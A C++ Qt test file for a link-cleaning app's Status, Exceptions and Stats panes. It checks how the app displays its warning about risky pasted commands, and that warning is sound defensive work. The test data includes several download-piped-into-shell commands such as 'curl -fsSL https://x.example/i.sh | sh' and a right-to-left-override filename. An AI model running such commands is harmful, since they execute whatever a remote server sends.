// The panes that show what happened: Status (with the command warning and
// last-clean sections), Exceptions and Stats with its CSV export.
#include <filesystem>
#include <memory>
#include <string>
#include <vector>

#include <QCheckBox>
#include <QElapsedTimer>
#include <QGroupBox>
#include <QLabel>
#include <QListWidget>
#include <QPushButton>
#include <QScrollArea>
#include <QScrollBar>
#include <QStackedWidget>
#include <QTest>
#include <QToolButton>

#include "QtTestMain.h"
#include "ScourletCore/clipboard/ClipboardMonitor.h"
#include "ScourletCore/clipboard/StatsTracker.h"
#include "ScourletCore/linkrewriting/WaybackLinkBuilder.h"
#include "ScourletCore/platform/InMemoryUserDefaults.h"
#include "ScourletCore/rules/DomainExceptionStore.h"
#include "app/settings/DomainExceptionsPane.h"
#include "app/settings/FileSaver.h"
#include "app/settings/StatsPane.h"
#include "app/settings/StatusPane.h"
#include "app/settings/WrappingTextView.h"
#include "support/ManualClock.h"
#include "support/TempDir.h"

namespace scourlet::app {

namespace {

namespace fs = std::filesystem;

// The text of a label, or of a view of outside text.
QString labelText(QWidget& root, const QString& name) {
    if (auto* view = root.findChild<WrappingTextView*>(name)) {
        return view->text();
    }
    auto* label = root.findChild<QLabel*>(name);
    return label == nullptr ? QStringLiteral("<missing %1>").arg(name) : label->text();
}

CommandRiskResult risk(std::string command) {
    CommandRiskResult result;
    result.command = std::move(command);
    result.severity = CommandRiskSeverity::danger;
    result.rulesVersion = "7";
    return result;
}

// A save dialog that answers with a fixed path (or a cancel) and records errors.
class ScriptedSaver final : public FileSaver {
public:
    std::optional<QString> target;
    std::vector<QString> errors;
    Request lastRequest;

protected:
    std::optional<QString> chooseTarget(QWidget*, const Request& request) override {
        lastRequest = request;
        return target;
    }
    void reportError(QWidget*, const QString& message) override { errors.push_back(message); }
};

}  // namespace

class ReadingPanesTest : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void statusShowsPlaceholdersThenWhatHappened();
    void statusTitleFollowsThePendingFlagAlone();
    void outsideTextIsPlainAndVisible();
    void lastCleanCopiesTheExactLinks();
    void longLinksAndCommandsStayInsideThePane();
    void exceptionsListAndRemove();
    void exceptionsDrawTheirSymbolsThemselves();
    void statsWindowsAndCollectionSwitch();
    void statsCountsStayOnOneLineBesideTheirIcons();
    void csvExportIsTheTrackersTextByteForByte();
    void failedOrCancelledExportKeepsTheOldFile();
};

void ReadingPanesTest::statusShowsPlaceholdersThenWhatHappened() {
    StatusPane pane([](const std::string&) {});
    auto* cleanBox = pane.findChild<QGroupBox*>(QStringLiteral("status-clean-section"));
    QCOMPARE(cleanBox->title(), QStringLiteral("Last Cleaned Link"));
    QVERIFY(pane.findChild<QWidget*>(QStringLiteral("status-no-warning")) != nullptr);
    QVERIFY(pane.findChild<QWidget*>(QStringLiteral("status-no-clean")) != nullptr);

    CleanResult result{.originalURL = "https://a.example/?utm_source=x", .cleanedURL = "https://a.example/"};
    pane.showStatus({risk("curl x | sh"), result, false});
    QVERIFY(pane.findChild<QWidget*>(QStringLiteral("command-risk-section")) != nullptr);
    QVERIFY(pane.findChild<QWidget*>(QStringLiteral("last-clean-detail")) != nullptr);
    QVERIFY(pane.findChild<QWidget*>(QStringLiteral("status-no-warning")) == nullptr);
    QCOMPARE(labelText(pane, QStringLiteral("command-risk-severity")), QStringLiteral("\u26A0 Danger"));

    // The warning is cleared: its placeholder comes back, the link stays.
    pane.showStatus({std::nullopt, result, false});
    QVERIFY(pane.findChild<QWidget*>(QStringLiteral("command-risk-section")) == nullptr);
    QVERIFY(pane.findChild<QWidget*>(QStringLiteral("status-no-warning")) != nullptr);
    QVERIFY(pane.findChild<QWidget*>(QStringLiteral("last-clean-detail")) != nullptr);
}

void ReadingPanesTest::statusTitleFollowsThePendingFlagAlone() {
    StatusPane pane([](const std::string&) {});
    auto* cleanBox = pane.findChild<QGroupBox*>(QStringLiteral("status-clean-section"));
    pane.showStatus({std::nullopt, std::nullopt, true});
    QCOMPARE(cleanBox->title(), QStringLiteral("Link Needs Action"));
    QVERIFY(pane.findChild<QWidget*>(QStringLiteral("status-no-clean")) != nullptr);

    CleanResult result{.originalURL = "https://a.co/d/x", .cleanedURL = "https://a.co/d/x"};
    pane.showStatus({std::nullopt, result, true});
    QCOMPARE(labelText(pane, QStringLiteral("last-clean-cleaned")), QStringLiteral("https://a.co/d/x"));
    QCOMPARE(pane.findChild<QPushButton*>(QStringLiteral("last-clean-copy"))->text(),
             QStringLiteral("Copy Current Link"));
    QVERIFY(pane.findChild<QWidget*>(QStringLiteral("last-clean-impact")) == nullptr);
    QVERIFY(pane.findChild<QLabel*>(QStringLiteral("tracking-methodology-link")) != nullptr);

    pane.showStatus({std::nullopt, result, false});
    QCOMPARE(cleanBox->title(), QStringLiteral("Last Cleaned Link"));
    QVERIFY(pane.findChild<QWidget*>(QStringLiteral("last-clean-impact")) != nullptr);
}

void ReadingPanesTest::outsideTextIsPlainAndVisible() {
    StatusPane pane([](const std::string&) {});
    pane.showStatus({risk("<b>bold</b>\necho \u202Egnp.exe"), std::nullopt, false});
    // Plain text (the view has no rich text), controls made visible.
    auto* command = pane.findChild<WrappingTextView*>(QStringLiteral("command-risk-command"));
    QCOMPARE(command->text(), QStringLiteral("<b>bold</b>\necho \u27E8U+202E\u27E9gnp.exe"));
}

void ReadingPanesTest::lastCleanCopiesTheExactLinks() {
    std::vector<std::string> copied;
    StatusPane pane([&](const std::string& text) { copied.push_back(text); });
    const std::string cleaned = "https://shop.example/p?id=1&x=2";
    pane.showStatus({std::nullopt, CleanResult{.originalURL = cleaned + "&utm_source=y", .cleanedURL = cleaned},
               false});
    QTest::mouseClick(pane.findChild<QPushButton*>(QStringLiteral("last-clean-copy")), Qt::LeftButton);
    auto* wayback = pane.findChild<QPushButton*>(QStringLiteral("last-clean-copy-wayback"));
    QVERIFY(wayback != nullptr);
    QVERIFY(wayback->toolTip().startsWith(QStringLiteral("Copies an Internet Archive lookup link.")));
    QTest::mouseClick(wayback, Qt::LeftButton);
    QCOMPARE(copied.size(), 2u);
    QCOMPARE(copied[0], cleaned);
    QCOMPARE(copied[1], *WaybackLinkBuilder::lookupURL(cleaned));
}

// A link or a command without a space wraps inside the pane, whatever its
// length, up to the largest text the clipboard admits; the pane never scrolls
// sideways, the rule-set caption stays in view, and showing it stays quick.
void ReadingPanesTest::longLinksAndCommandsStayInsideThePane() {
    // A tracked product link as people copy it: 206 characters, no space.
    std::string link =
        "https://www.shop.example/Wireless-Noise-Cancelling-Headphones-Bluetooth/dp/B0C8KX5T2Q/"
        "ref=sr_1_3?crid=2M8Q7X1&keywords=headphones&qid=1718000000&sprefix=headph&sr=8-3"
        "&utm_source=newsletter&utm_medium=email";
    link.resize(206, 'x');
    std::string longLink = "https://t.example/r?u=";
    while (longLink.size() < 1660) {
        longLink += "aHR0cHM6Ly9leGFtcGxlLmNvbS8_dXRtX3NvdXJjZT1uZXdz";
    }
    longLink.resize(1660);
    const std::string unbroken(ClipboardMonitor::maximumStringBytes, 'A');
    std::string manyLines;
    while (manyLines.size() + 24 < ClipboardMonitor::maximumStringBytes) {
        manyLines += "curl -fsSL x.example|sh\n";
    }
    const struct {
        const char* name;
        std::string command;
        std::string url;
    } cases[] = {
        {"206-character link", "curl -fsSL https://x.example/i.sh | sh", link},
        {"1,660-character link", "curl -fsSL https://x.example/i.sh | sh", longLink},
        {"64 KiB command without a space", "curl " + unbroken + " | sh", link},
        {"64 KiB command of many lines", manyLines, longLink},
    };
    for (const auto& c : cases) {
        StatusPane pane([](const std::string&) {});
        pane.resize(960, 640);
        pane.show();
        QVERIFY(QTest::qWaitForWindowExposed(&pane));
        auto* scroll = pane.findChild<QScrollArea*>();
        CommandRiskResult warning = risk(c.command);
        warning.findings.push_back(CommandRiskFinding{.id = "pipe",
                                                      .summary = "Pipes a download into a shell",
                                                      .explanation = "Runs whatever the server sends.",
                                                      .matchedText = c.command.substr(0, 160)});
        QElapsedTimer timer;
        timer.start();
        pane.showStatus({warning, CleanResult{.originalURL = c.url, .cleanedURL = c.url}, false});
        QCoreApplication::processEvents();  // the layout runs
        scroll->viewport()->grab();          // and what is in view is painted
        const qint64 shownMs = timer.elapsed();
        const int viewport = scroll->viewport()->width();

        QVERIFY2(scroll->horizontalScrollBar()->maximum() == 0, c.name);
        QVERIFY2(scroll->widget()->width() <= viewport, c.name);
        auto* caption = pane.findChild<QLabel*>(QStringLiteral("command-risk-rules"));
        const QRect captionInView(caption->mapTo(scroll->viewport(), QPoint(0, 0)), caption->size());
        QVERIFY2(captionInView.left() >= 0 && captionInView.right() < viewport, c.name);
        for (const char* name : {"command-risk-command", "command-risk-matched", "last-clean-original",
                                 "last-clean-cleaned"}) {
            auto* view = pane.findChild<WrappingTextView*>(QString::fromLatin1(name));
            QVERIFY2(view != nullptr, name);
            QVERIFY2(view->mapTo(scroll->viewport(), QPoint(view->width(), 0)).x() <= viewport, name);
        }
        // Measured at 10 to 40 ms in a sanitizer build; the labels this
        // replaced took over a second for the longest texts.
        QVERIFY2(shownMs < 500, qPrintable(QStringLiteral("%1: %2 ms").arg(QString::fromLatin1(c.name)).arg(shownMs)));
        qInfo("%s: shown in %lld ms", c.name, static_cast<long long>(shownMs));
    }
}

void ReadingPanesTest::exceptionsListAndRemove() {
    auto store = std::make_shared<DomainExceptionStore>(std::make_shared<InMemoryUserDefaults>());
    DomainExceptionsPane pane(store);
    auto* states = pane.findChild<QStackedWidget*>();
    QCOMPARE(states->currentWidget()->objectName(), QStringLiteral("exceptions-empty"));

    store->disable("one.example");
    store->disable("<b>two</b>.example");
    store->disable("three.example");
    pane.refresh();  // what the application does after the store announced the change
    auto* list = pane.findChild<QListWidget*>(QStringLiteral("exceptions-list"));
    QCOMPARE(states->currentWidget(), list);
    QCOMPARE(list->count(), 3);
    auto removeButtons = pane.findChildren<QToolButton*>(QStringLiteral("exception-remove"));
    QCOMPARE(removeButtons.size(), 3);
    const QString second = QString::fromStdString(store->disabledDomains()[1].host);
    QCOMPARE(removeButtons[1]->accessibleName(), QStringLiteral("Re-enable cleaning for ") + second);
    QVERIFY(removeButtons[1]->toolTip().contains(second.toHtmlEscaped()));

    removeButtons[1]->click();
    QTRY_COMPARE(list->count(), 2);
    const auto left = store->disabledDomains();
    QCOMPARE(left.size(), 2u);
    QCOMPARE(left[0].host, std::string("one.example"));
    QCOMPARE(left[1].host, std::string("three.example"));
    auto hosts = pane.findChildren<QLabel*>(QStringLiteral("exception-host"));
    QCOMPARE(hosts.size(), 2);
    QCOMPARE(hosts[0]->textFormat(), Qt::PlainText);

    for (const char* host : {"one.example", "three.example"}) {
        store->enable(host);
    }
    pane.refresh();
    QCOMPARE(states->currentWidget()->objectName(), QStringLiteral("exceptions-empty"));
}

// The symbols are the program's own drawings: they show without an icon
// theme or an emoji font.
void ReadingPanesTest::exceptionsDrawTheirSymbolsThemselves() {
    auto store = std::make_shared<DomainExceptionStore>(std::make_shared<InMemoryUserDefaults>());
    DomainExceptionsPane pane(store);
    auto* image = pane.findChild<QLabel*>(QStringLiteral("exceptions-empty-image"));
    QVERIFY(image != nullptr);
    QVERIFY(!image->pixmap().isNull());
    QVERIFY(image->pixmap().width() >= 32);

    store->disable("one.example");
    pane.refresh();
    auto* globe = pane.findChild<QLabel*>(QStringLiteral("exception-globe"));
    QVERIFY(globe != nullptr);
    QVERIFY(globe->text().isEmpty());
    QVERIFY(!globe->pixmap().isNull());
    QVERIFY(globe->pixmap().toImage().pixelColor(8, 8).alpha() > 0 ||
            globe->pixmap().toImage().pixelColor(2, 8).alpha() > 0);  // something is drawn
}

// In the narrowest settings window a four-digit count and its unit stay on
// one line, and each category shows its symbol.
void ReadingPanesTest::statsCountsStayOnOneLineBesideTheirIcons() {
    auto defaults = std::make_shared<InMemoryUserDefaults>();
    auto tracker = std::make_shared<StatsTracker>(defaults, std::make_shared<testing::ManualClock>());
    for (int i = 0; i < 1051; ++i) {
        tracker->recordClean(CleanResult{.originalURL = "https://a.example/?utm_source=x",
                                         .cleanedURL = "https://a.example/",
                                         .paramsRemoved = 1,
                                         .removedQueryParameters = {"utm_source"},
                                         .matchedCategories = {RuleCategoryType::analytics,
                                                               RuleCategoryType::redirectUnwrapping}});
    }
    StatsPane pane(tracker, nullptr, std::make_shared<ScriptedSaver>());
    pane.resize(720, 560);
    pane.show();
    QVERIFY(QTest::qWaitForWindowExposed(&pane));
    for (const char* name : {"Analytics", "Redirect Unwrapping"}) {
        auto* count = pane.findChild<QLabel*>(QStringLiteral("stats-category-") + QString::fromLatin1(name));
        QCOMPARE(count->text(), QStringLiteral("1051 params stripped"));
        QVERIFY2(count->height() < 2 * count->fontMetrics().lineSpacing(), name);
        QVERIFY2(count->width() >= count->fontMetrics().horizontalAdvance(count->text()), name);
    }
    for (RuleCategoryType category : allCases<RuleCategoryType>()) {
        const std::string_view raw = rawValue(category);
        const QString name = QString::fromUtf8(raw.data(), static_cast<qsizetype>(raw.size()));
        auto* symbol = pane.findChild<QLabel*>(QStringLiteral("stats-category-icon-") + name);
        QVERIFY2(symbol != nullptr && !symbol->pixmap().isNull(), qPrintable(name));
        QVERIFY(symbol->isVisible());
    }
}

void ReadingPanesTest::statsWindowsAndCollectionSwitch() {
    auto defaults = std::make_shared<InMemoryUserDefaults>();
    auto tracker = std::make_shared<StatsTracker>(defaults, std::make_shared<testing::ManualClock>());
    tracker->recordClean(CleanResult{.originalURL = "https://a.example/?utm_source=x",
                                     .cleanedURL = "https://a.example/",
                                     .paramsRemoved = 1,
                                     .removedQueryParameters = {"utm_source"},
                                     .matchedCategories = {RuleCategoryType::analytics}});
    StatsPane pane(tracker, nullptr, std::make_shared<ScriptedSaver>());
    QCOMPARE(labelText(pane, QStringLiteral("stats-total-cleaned")), QStringLiteral("1"));
    QCOMPARE(labelText(pane, QStringLiteral("stats-total-cleaned-label")), QStringLiteral("URLs cleaned today"));
    QCOMPARE(labelText(pane, QStringLiteral("stats-category-Analytics")), QStringLiteral("1 params stripped"));
    QCOMPARE(labelText(pane, QStringLiteral("stats-category-Custom")), QStringLiteral("0 params stripped"));

    pane.findChild<QPushButton*>(QStringLiteral("stats-window-All Time"))->click();
    QCOMPARE(labelText(pane, QStringLiteral("stats-total-cleaned-label")), QStringLiteral("Total URLs cleaned"));
    QCOMPARE(labelText(pane, QStringLiteral("stats-total-cleaned")), QStringLiteral("1"));

    // A clean recorded elsewhere shows after the tracker's announcement.
    tracker->recordClean(CleanResult{.originalURL = "https://b.example/?gclid=1", .cleanedURL = "https://b.example/"});
    QTRY_COMPARE(labelText(pane, QStringLiteral("stats-total-cleaned")), QStringLiteral("2"));

    auto* collect = pane.findChild<QCheckBox*>(QStringLiteral("stats-collect"));
    QVERIFY(collect->isChecked());
    QVERIFY(labelText(pane, QStringLiteral("stats-collect-caption")).startsWith(QStringLiteral("Keep on-device")));
    collect->click();
    QCOMPARE(defaults->boolForKey(StatsTracker::kCollectionEnabledKey), false);
    QVERIFY(labelText(pane, QStringLiteral("stats-collect-caption")).startsWith(QStringLiteral("Statistics collection is off")));
    collect->click();
    QCOMPARE(defaults->boolForKey(StatsTracker::kCollectionEnabledKey), true);
    QVERIFY(labelText(pane, QStringLiteral("stats-collect-caption")).startsWith(QStringLiteral("Keep on-device")));
}

void ReadingPanesTest::csvExportIsTheTrackersTextByteForByte() {
    testing::TempDir dir;
    auto tracker = std::make_shared<StatsTracker>(std::make_shared<InMemoryUserDefaults>(),
                                                  std::make_shared<testing::ManualClock>());
    tracker->recordClean(CleanResult{.originalURL = "https://a.example/?utm_source=x", .cleanedURL = "https://a.example/"});
    auto saver = std::make_shared<ScriptedSaver>();
    // The dialog adds the suffix; the path it answers with is used as it is.
    saver->target = QString::fromStdString((dir / "Scourlet-Stats.csv").string());
    StatsPane pane(tracker, nullptr, saver);
    pane.findChild<QPushButton*>(QStringLiteral("stats-export"))->click();
    QVERIFY(saver->errors.empty());
    QCOMPARE(saver->lastRequest.suggestedName, QStringLiteral("Scourlet-Stats.csv"));
    QCOMPARE(saver->lastRequest.nameFilter, QStringLiteral("CSV (*.csv)"));
    QCOMPARE(saver->lastRequest.defaultSuffix, QStringLiteral("csv"));
    QCOMPARE(testing::readFile(dir / "Scourlet-Stats.csv"), tracker->exportCSV());
}

void ReadingPanesTest::failedOrCancelledExportKeepsTheOldFile() {
    testing::TempDir dir;
    auto tracker = std::make_shared<StatsTracker>(std::make_shared<InMemoryUserDefaults>(),
                                                  std::make_shared<testing::ManualClock>());
    auto saver = std::make_shared<ScriptedSaver>();
    StatsPane pane(tracker, nullptr, saver);
    auto* exportButton = pane.findChild<QPushButton*>(QStringLiteral("stats-export"));

    saver->target = std::nullopt;  // cancelled: nothing happens, nothing is said
    exportButton->click();
    QVERIFY(saver->errors.empty());

    // A target that cannot be replaced: the folder of the file is gone.
    const fs::path old = dir / "stats.csv";
    testing::writeFile(old, "old export");
    saver->target = QString::fromStdString((dir / "gone" / "stats.csv").string());
    exportButton->click();
    QCOMPARE(saver->errors.size(), 1u);
    QVERIFY(saver->errors[0].contains(QStringLiteral("gone")));
    // A folder where the file goes.
    fs::create_directories(dir / "taken.csv");
    saver->target = QString::fromStdString((dir / "taken.csv").string());
    exportButton->click();
    QCOMPARE(saver->errors.size(), 2u);
    QCOMPARE(testing::readFile(old), std::string("old export"));
}

SCOURLET_QT_TEST(ReadingPanesTest);

}  // namespace scourlet::app

#include "ReadingPanesTest.moc"
